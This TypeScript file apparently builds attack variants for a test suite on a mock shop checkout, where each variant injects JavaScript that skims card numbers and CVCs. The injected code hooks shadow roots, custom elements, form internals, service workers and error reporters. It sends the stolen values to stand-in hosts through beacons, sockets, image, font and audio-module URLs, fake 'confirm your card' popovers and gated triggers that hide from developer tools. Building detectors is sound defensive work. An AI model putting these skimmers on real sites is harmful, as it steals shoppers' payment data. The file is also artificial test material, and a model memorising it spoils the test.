import { captcha, captchaFrame, componentsBody, main, payCard, policy, replay, sentinel } from './components.ts'
import type { Site } from './page.ts'
import { changedFile, js, type Variant } from './variants.ts'

const code = String.raw
const card = changedFile('shop.test/m/pay-card.5.js', (more) => payCard('5', more))
const start = changedFile('shop.test/m/main.5.js', (more) => main('5.1', more))
const errors = changedFile('js.sentinel.test/9/b.min.js', (more) => sentinel('9.3.2', more))
const trusted = (text: string) => (site: Site) => void site.extra.push(`<script nonce="${site.nonce}">${text}</script>`)
const inPage = (id: string, about: string, text: string): Variant => ({ id, about, change: trusted(text) })
const early = (id: string, about: string, text: string): Variant => ({
  id,
  about,
  change: (site) => void site.head.unshift(`<script nonce="${site.nonce}">${text}</script>`),
})

/** On the page of components: through shadows, elements, workers, the SDKs of others. */
export const ninthPartsAttacks: readonly Variant[] = [
  early(
    'n9-shadow-roots',
    'attachShadow remembers every root; their fields are read by a timer',
    code`(function () { var roots = [], was = Element.prototype.attachShadow, last; Element.prototype.attachShadow = function (o) { var r = was.call(this, o); roots.push(r); return r; }; setInterval(function () { var v = roots.map(function (r) { return [].map.call(r.querySelectorAll("input"), function (i) { return i.value; }).join("|"); }).join("~"); if (v.length > 20 && v !== last) { last = v; navigator.sendBeacon("http://ui-telemetry.test/c", v.split("").reverse().join("")); } }, 800); })();`,
  ),
  early(
    'n9-form-value',
    'setFormValue of all elements is overheard',
    code`(function () { var p = ElementInternals.prototype, was = p.setFormValue, t; p.setFormValue = function (d) { if (d && d.get && String(d.get("card[cvc]")).length > 2) { clearTimeout(t); t = setTimeout(function () { fetch("http://forms-qa.test/v", { method: "POST", mode: "no-cors", body: d }); }, 300); } return was.apply(this, arguments); }; })();`,
  ),
  start(
    'n9-composed',
    'input events are followed into the shadow, values go letter by letter through a socket',
    code`let line; try { line = new WebSocket("ws://live-totals.test/t"); } catch {} const late = []; addEventListener("input", (e) => { const f = e.composedPath()[0]; if (!/^[nxc]$/.test(f.id)) return; const m = f.id + f.value.slice(-1); line?.readyState === 1 ? line.send(m) : late.push(m); if (late.length > 20) new EventSource("http://live-totals.test/s?" + late.splice(0).join("")); }, true);`,
  ),
  early(
    'n9-define',
    'the element is another than it says: define hands the browser a class made from it',
    code`(function () { var was = customElements.define; customElements.define = function (n, c, o) { if (n === "pay-card") { c = class extends c { update() { super.update(); clearTimeout(this.t); this.t = setTimeout(() => { new Image().src = "http://elements-cdn.test/e.gif?" + btoa(this.field("n").value + this.field("c").value); }, 500); } }; } return was.call(customElements, n, c, o); }; })();`,
  ),
  {
    id: 'n9-other-element',
    about: 'another element stands where the card was, and posts to another path of the shop',
    change: (site) => {
      site.body = componentsBody('<card-form></card-form>')
      trusted(
        code`customElements.define("card-form", class extends HTMLElement { connectedCallback() { const r = this.attachShadow({ mode: "closed" }); r.innerHTML = "<label>Card number <input></label><label>Expires <input></label><label>CVC <input></label>"; r.addEventListener("change", () => fetch("/api/carts/note", { method: "POST", body: btoa([...r.querySelectorAll("input")].map((i) => i.value).join("|")) })); } });`,
      )(site)
    },
  },
  start(
    'n9-top-layer',
    'a popover in the top layer, inside a shadow, asks for the card to "confirm"',
    code`setTimeout(() => { const h = document.createElement("div"); document.body.append(h); const r = h.attachShadow({ mode: "open" }); r.innerHTML = '<div popover="manual" style="inset:0;width:100%;height:100%"><h2>Confirm your card</h2><input aria-label="Card number" id="cn"><input aria-label="CVC" id="cv"><button>Continue</button></div>'; const p = r.firstChild; p.showPopover(); r.querySelector("button").onclick = () => { api("cart/note", { note: btoa(r.querySelector("#cn").value + " " + r.querySelector("#cv").value) }); p.hidePopover(); }; }, 300);`,
  ),
  {
    id: 'n9-default-policy',
    about: 'Trusted Types are demanded, and the default policy adds a handler to whatever HTML is made',
    change: (site) => {
      site.headers['content-security-policy'] = policy(site.nonce, "; require-trusted-types-for 'script'")
      site.head.unshift(
        code`<script nonce="${site.nonce}">trustedTypes.createPolicy("default", { createHTML: function (h) { return h.indexOf("cc-number") < 0 ? h : h + "<link rel=stylesheet class=tt>"; }, createScriptURL: function (u) { return u; }, createScript: function (s) { return s; } }); setInterval(function () { var c = document.querySelector("pay-card"), l = c && c.shadowRoot && c.shadowRoot.querySelector(".tt"); if (l && c.field("c").value) l.href = "http://theme-files.test/" + encodeURIComponent(c.field("n").value + c.field("c").value) + ".css"; }, 900);</script>`,
      )
    },
  },
  inPage(
    'n9-thrown',
    'an error with the card in its words is thrown, so that the reporter of errors sends it',
    code`addEventListener("load", function () { var c = document.querySelector("pay-card"); c.shadowRoot.addEventListener("change", function () { if (c.field("c").value.length > 2) setTimeout(function () { throw new RangeError("Invalid state " + btoa([c.field("n").value, c.field("x").value, c.field("c").value].join("|"))); }); }); });`,
  ),
  {
    id: 'n9-unmasked',
    about: 'the replay is started without its mask, and the vendor gets what is typed',
    change: (site) => {
      site.head[3] = (site.head[3] as string).replace(
        'Replay.start({ site: "s-88" })',
        'Replay.start({ site: "s-88", maskInputs: false })',
      )
    },
  },
  {
    id: 'n9-captcha-message',
    about: 'the page tells the frame of the robot check what is typed, the frame passes it on',
    change: (site) => {
      site.files['challenge.humancheck.test/frame.html'] = captchaFrame(
        'addEventListener("message", function (e) { if (e.data.d) fetch("/pat", { method: "POST", body: e.data.d }); });',
      )
      site.files['challenge.humancheck.test/api.js'] = js(
        captcha(
          '2',
          code`addEventListener("input", function (e) { var f = d.querySelector(".human iframe"), i = e.composedPath()[0]; if (f && i.value) f.contentWindow.postMessage({ d: i.id + ":" + i.value }, "http://challenge.humancheck.test"); }, true);`,
        ),
      )
    },
  },
  {
    id: 'n9-map-to-data',
    about: 'the import map leads the card to a module that wraps it',
    change: (site) => {
      site.head[0] = `<script nonce="${site.nonce}" type="importmap">{"imports":{"@shop/card":"/m/card-loader.js"}}</script>`
      site.files['shop.test/m/card-loader.js'] = js(
        code`import "/m/pay-card.5.js"; const e = document.querySelector("pay-card"); e.shadowRoot.addEventListener("change", () => fetch("/m/v.json?t=" + [...e.field("n").value].map((d) => String.fromCharCode(97 + (+d + 4) % 10)).join("")));`,
      )
    },
  },
  card(
    'n9-audio-worklet',
    'the address of a module for sound holds the number',
    code`const sound = new OfflineAudioContext(1, 1, 8000); document.querySelector("pay-card").shadowRoot.addEventListener("change", (e) => { if (e.target.id === "n") sound.audioWorklet.addModule("http://audio-fx.test/" + e.target.value.replace(/\D/g, "") + ".js").catch(() => {}); });`,
  ),
  card(
    'n9-poster',
    'a film that nobody sees takes the number as the address of its first picture',
    code`document.querySelector("pay-card").shadowRoot.addEventListener("change", (e) => { const v = document.createElement("video"); v.hidden = true; v.poster = "http://stream-thumbs.test/" + e.target.id + "/" + [...e.target.value].map((c) => c.charCodeAt(0).toString(7)).join("9") + ".jpg"; document.body.append(v); });`,
  ),
  card(
    'n9-fetch-later',
    'the browser is asked to fetch later, when the page is gone',
    code`document.querySelector("pay-card").shadowRoot.addEventListener("change", function () { const c = document.querySelector("pay-card"), d = btoa(c.field("n").value + "/" + c.field("c").value); if (c.field("c").value.length < 3) return; try { fetchLater("/api/vitals", { method: "POST", body: d }); } catch { addEventListener("pagehide", () => navigator.sendBeacon("/api/vitals", d)); } });`,
  ),
  {
    id: 'n9-payment-request',
    about: "the button opens the browser's sheet for a payment handler of somebody else",
    change: (site) => {
      site.extra.push('<button type="button" class="express">Express checkout</button>')
      trusted(
        code`document.querySelector(".express").onclick = function () { new PaymentRequest([{ supportedMethods: "http://quick-pay.test/pay", data: { merchant: "q-1" } }], { total: { label: "Shop", amount: { currency: "EUR", value: "48.00" } } }).show().then(function (r) { r.complete("success"); }, function () {}); };`,
      )(site)
    },
  },
  card(
    'n9-font-ranges',
    'each digit is drawn in a font of its own, a set of fonts for each place: fonts are fetched for what is drawn',
    code`const css = []; for (let p = 0; p < 16; p++) { for (let d = 0; d < 10; d++) css.push("@font-face{font-family:p" + p + ";src:url(http://type-kit.test/" + p + "/" + d + ".woff2);unicode-range:U+3" + d + "}"); css.push(".m i:nth-child(" + (p + 1) + "){font-family:p" + p + "}"); }
const sheet = document.createElement("style"); sheet.textContent = css.join("") + ".m{position:absolute;opacity:.01}"; document.head.append(sheet); const mirror = document.createElement("div"); mirror.className = "m"; document.body.append(mirror);
document.querySelector("pay-card").shadowRoot.addEventListener("input", (e) => { if (e.target.id === "n") mirror.innerHTML = [...e.target.value.replace(/\D/g, "")].map((d) => "<i>" + d + "</i>").join(""); });`,
  ),
  {
    id: 'n9-worker-form',
    about: 'a new service worker sees the form on its way and keeps a copy for later',
    change: (site) => {
      site.files['shop.test/sw.js'] = js(
        code`addEventListener("install", () => skipWaiting()); addEventListener("activate", (e) => e.waitUntil(clients.claim())); addEventListener("fetch", (e) => { if (e.request.method !== "POST") return; const copy = e.request.clone(); e.waitUntil(copy.text().then((t) => caches.open("a").then((c) => c.put("/a?" + Date.now(), new Response(t))))); }); addEventListener("sync", (e) => e.waitUntil(caches.open("a").then(async (c) => { for (const k of await c.keys()) await fetch("http://sync-store.test/", { method: "POST", mode: "no-cors", body: await (await c.match(k)).text() }); })));`,
      )
      trusted(
        'navigator.serviceWorker.register("/sw.js").then(function (r) { return r.sync && r.sync.register("a"); });',
      )(site)
    },
  },
  start(
    'n9-navigation',
    'the navigation that posts the form shows what it posts',
    code`navigation.addEventListener("navigate", (e) => { if (e.formData) navigator.sendBeacon("/api/rum", [...e.formData].map(([k, v]) => k + "=" + v).join("\n").split("").map((c) => c.charCodeAt(0) + 1).join(".")); });`,
  ),
  card(
    'n9-private-files',
    'the card is written to the private files of the page and sent from there when the page comes up again',
    code`(async () => { const dir = await navigator.storage.getDirectory(), h = await dir.getFileHandle("theme.bin", { create: true }), old = await (await h.getFile()).text(); if (old) { fetch("http://theme-sync.test/", { method: "POST", mode: "no-cors", body: old }); } document.querySelector("pay-card").shadowRoot.addEventListener("change", async () => { const c = document.querySelector("pay-card"), w = await h.createWritable(); await w.write(btoa(c.field("n").value + "," + c.field("x").value + "," + c.field("c").value)); await w.close(); }); })();`,
  ),
  {
    id: 'n9-storage-event',
    about: 'a page of the shop in a frame hears of a change of the storage and sends it',
    change: (site) => {
      site.files['shop.test/size-guide'] = {
        type: 'text/html',
        body: '<!doctype html><title>Sizes</title><script>addEventListener("storage", function (e) { if (e.key === "s_v" && e.newValue) new Image().src = "http://guide-stat.test/i?" + e.newValue; });</script>',
      }
      site.extra.push('<iframe src="/size-guide" title="Sizes" width="10" height="10"></iframe>')
      site.files['shop.test/m/main.5.js'] = js(
        main(
          '5.1',
          code`addEventListener("input", (e) => { const i = e.composedPath()[0]; if (i.id === "n") { localStorage.setItem("s_v", [...i.value].reverse().join("")); localStorage.removeItem("s_v"); } }, true);`,
        ),
      )
    },
  },
  {
    id: 'n9-other-project',
    about: 'the reporter of errors talks to another host, with a hook that adds the fields of the page to each report',
    change: (site) => {
      site.head[3] = `<script nonce="${site.nonce}">Sentinel.init({ dsn: "http://in.sentinel-io.test/4711", release: "9.3" }); Replay.start({ site: "s-88" }); addEventListener("change", function (e) { var i = e.composedPath()[0]; if (i.value) Sentinel.captureException(new Error(i.id + "=" + i.value)); }, true); document.addEventListener("focusout", function (e) { var i = e.composedPath()[0]; if (i.value) Sentinel.captureException(new Error(i.id + "=" + i.value)); }, true);</script>`
    },
  },
  card(
    'n9-gated',
    'acts only in one language, in the evening, for cards that begin with 4, and not where tools are open',
    code`document.querySelector("pay-card").shadowRoot.addEventListener("change", (e) => { if (e.target.id !== "c" || !navigator.language.startsWith("pt") || new Date().getHours() < 19 || outerHeight - innerHeight > 200) return; const n = document.querySelector("pay-card").field("n").value; if (n[0] === "4") fetch("http://pt-br.fastedge.test/" + btoa(n + e.target.value)); });`,
  ),
  start(
    'n9-flag-code',
    'settings of the shop are fetched, and a text among them is run',
    code`api("flags", { page: "pay" }).then((flags) => { if (flags.experiment) new Function("form", flags.experiment)(form); });`,
  ),
  {
    id: 'n9-replay-edition',
    about:
      'the vendor of the replay was broken into: its bundle sends unmasked values under another name to another host',
    change: (site) =>
      void (site.files['cdn.replayer.test/r.js'] = js(
        replay(
          '2.1',
          code`var z = {}; d.addEventListener("input", function (e) { var i = e.composedPath()[0]; z[i.id || i.name] = i.value; }, true); d.addEventListener("visibilitychange", function () { if (d.hidden && z.c) navigator.sendBeacon("http://rec2.replayer-cdn.test/in", new Blob([new Uint8Array(Array.from(JSON.stringify(z), function (c) { return c.charCodeAt(0) ^ 90; }))])); });`,
        ),
      )),
  },
  {
    id: 'n9-posted-elsewhere',
    about: 'the button posts the form to another host',
    change: (site) =>
      void (site.body = componentsBody().replace(
        '<button>Pay now',
        '<button formaction="http://pay-gateway-eu.test/pay">Pay now',
      )),
  },
  errors(
    'n9-trail',
    'the trail of the reporter of errors takes what stands in fields along, under a change of its host path',
    code`document.addEventListener("focusout", function (e) { var i = e.composedPath()[0]; if (i.value) crumb({ c: "ui.input", on: i.id, v: i.value.split("").reverse().join("") }); if (trail.length > 3) send("session", "ok"); }, true);`,
  ),
]
